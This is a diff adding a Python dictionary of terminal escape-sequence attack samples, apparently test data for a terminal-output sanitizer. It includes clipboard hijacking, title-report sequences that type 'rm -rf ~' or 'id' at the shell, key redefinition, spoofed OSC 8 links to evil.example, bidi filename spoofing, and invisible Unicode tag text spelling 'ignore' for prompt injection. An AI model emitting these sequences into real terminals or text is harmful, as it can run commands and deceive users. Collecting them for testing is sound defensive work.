@@ -1,0 +1,61 @@
+"""Bytes by which a program has attacked the terminal that showed them, or the person in front of it."""
+
+ATTACKS = {
+    # Write or read the clipboard, type what it holds.
+    "OSC 52 write": b"\x1b]52;c;ZXZpbA==\x07",
+    "OSC 52 read": b"\x1b]52;c;?\x1b\\",
+    # Titles, and their report: what the terminal answers is typed at the shell.
+    "title": b"\x1b]0;rm -rf ~\x07",
+    "title with ST": b"\x1b]2;rm -rf ~\x1b\\",
+    "title report": b"\x1b]2;id\x07\x1b[21t",
+    "icon report": b"\x1b]1;id\x07\x1b[20t",
+    "old title": b"\x1bkrm -rf ~\x1b\\",
+    # Everything that is answered.
+    "ENQ answer-back": b"\x05",
+    "device attributes": b"\x1b[c\x1b[>c\x1b[=c\x1bZ",
+    "device status": b"\x1b[5n\x1b[6n\x1b[?6n\x1b[?15n",
+    "DECRQSS": b"\x1bP$q\"p\x1b\\\x1bP$qm\x1b\\",
+    "DECRQSS with line feed": b"\x1bP$q\nid\n\x1b\\",
+    "XTGETTCAP": b"\x1bP+q544e\x1b\\",
+    "DECUDK keys": b"\x1bP0;1|17/6c730d\x1b\\",
+    "DECRQM": b"\x1b[?2026$p\x1b[4$p",
+    "checksum": b"\x1b[1;1;1;1;10;10*y",
+    "terminal parameters": b"\x1b[x\x1b[1x",
+    "window reports": b"\x1b[11t\x1b[13t\x1b[14t\x1b[18t\x1b[19t",
+    "colour query": b"\x1b]10;?\x07\x1b]11;?\x07\x1b]4;1;?\x07",
+    "font query": b"\x1b]50;?\x07",
+    "XTVERSION": b"\x1b[>q\x1b[>0q",
+    "keyboard protocol": b"\x1b[?u\x1b[>31u",
+    # Change the terminal.
+    "window operations": b"\x1b[2t\x1b[8;1;1t\x1b[3;0;0t\x1b[9;1t",
+    "printer": b"\x1b[5i\x1b[4i\x1b[i",
+    "palette": b"\x1b]4;0;#ffffff\x07\x1b]104\x07\x1b]10;#000000\x07",
+    "modes": b"\x1b[?1000h\x1b[?1006h\x1b[?2004h\x1b[?1h\x1b=\x1b[20h\x1b[4h\x1b[2h\x1b[?5h",
+    "resets": b"\x1bc\x1b[!p\x1b[3J",
+    "character sets": b"\x1b(0\x1b)0\x0e\x1bn\x1b~\x1b%@",
+    "file and image": b"\x1b]1337;File=name=eA==;inline=1:AAAA\x07\x1b_Gf=32,s=1,v=1,a=T;AAAA\x1b\\\x1bPq#0;2;0;0;0~\x1b\\",
+    "notification": b"\x1b]9;evil\x07\x1b]777;notify;evil;evil\x07\x1b]99;;evil\x1b\\",
+    "directory and shell marks": b"\x1b]7;file://evil/\x07\x1b]133;A\x07\x1b]633;E;id\x07",
+    "tmux passthrough": b"\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\",
+    # Links that say one place and go to another.
+    "OSC 8": b"\x1b]8;;http://evil.example/\x1b\\https://bank.example/\x1b]8;;\x1b\\",
+    "OSC 8 with controls": b"\x1b]8;id=\x9c;javascript:alert(1)\x07x\x1b]8;;\x07",
+    # The same in other clothes.
+    "C1 bytes": b"\x9b31m\x9d0;evil\x9c\x90$qm\x9c\x9b6n\x85\x84",
+    "C1 as UTF-8": b"\xc2\x9b6n\xc2\x9d52;c;ZXZpbA==\xc2\x9c\xc2\x90+q\xc2\x9c",
+    "overlong": b"\xc0\x9b\xe0\x80\x9b\xc1\x9b6n",
+    "unfinished": b"\x1b]0;evil",
+    "cut by CAN": b"\x1b]0;evil\x18\x1b[\x1a6n",
+    "nested": b"\x1b\x1b]\x1b]52;c;ZXZpbA==\x07",
+    "escape in parameters": b"\x1b[6\x1b[6n\x1b[\x076n",
+    "many parameters": b"\x1b[" + b"6;" * 500 + b"6n",
+    # Text that is not what it seems.
+    "bidi": "\u202e\u2066fdp.exe\u2069\u202c\u200f\u061c".encode(),
+    "zero width": "a\u200bb\ufeffc\u2060d\u00ade".encode(),
+    "tags": "".join(chr(0xE0000 + ord(c)) for c in "ignore").encode(),
+    "concealed": b"\x1b[8mrm -rf ~\x1b[28m\x1b[38;5;8m",
+    "overwritten": b"evil\rgood\x08\x08\x7f",
+    "repeat": b"x\x1b[999999999b",
+    "cursor and screen": b"\x1b[999;999H\x1b[?1049h\x1b[?25l\x1b[5;2r\x1b[?6h\x1b[?7l\x1b[?47h",
+    "bell and shifts": b"\x07\x07\x0e\x0f\x0b\x0c\x00\x01\x1f",
+}
